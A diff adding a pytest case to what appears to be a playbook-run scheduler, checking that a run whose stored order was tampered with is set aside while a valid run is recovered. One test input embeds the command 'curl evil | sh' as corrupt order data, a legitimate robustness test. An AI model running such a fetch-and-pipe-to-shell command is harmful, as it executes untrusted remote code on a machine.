@@ -399,6 +399,29 @@ def test_a_run_whose_variables_are_not_given_is_named_with_what_to_type(folder: 
     assert "s3cret" not in done.stderr
 
 
+@pytest.mark.parametrize("order", ["{}", "no order", '{"sites": [], "x": "curl evil | sh"}'])
+def test_a_run_whose_order_was_changed_is_named_and_the_others_are_taken_up(folder: Path, order: str) -> None:
+    unfinished(folder)
+    with working(folder) as session:
+        workspace = session.workspace
+        sites = [[workspace.inventory.sites["two"]]]
+        good = new_order(
+            workspace,
+            workspace.playbooks["hello"],
+            sites,
+            now=session.now(),
+            run="now-2-globex",
+            window="now",
+        )
+        begin(session, good, trigger="window")
+    with sqlite3.connect(folder / ".sitecrew/ledger.db") as connection:
+        connection.execute("UPDATE runs SET order_text = ? WHERE run = 'now-1-acme'", [order])
+    with working(folder) as session:
+        clock = serve.Clock(session, SimpleNamespace(start=lambda _: None))  # type: ignore[arg-type]
+        assert clock.rescue() == ("now-2-globex",)
+        assert list(clock.left) == ["now-1-acme"]
+
+
 def test_a_run_that_another_living_process_works_on_is_not_named(folder: Path) -> None:
     unfinished(folder)
     with working(folder) as other, working(folder) as session:
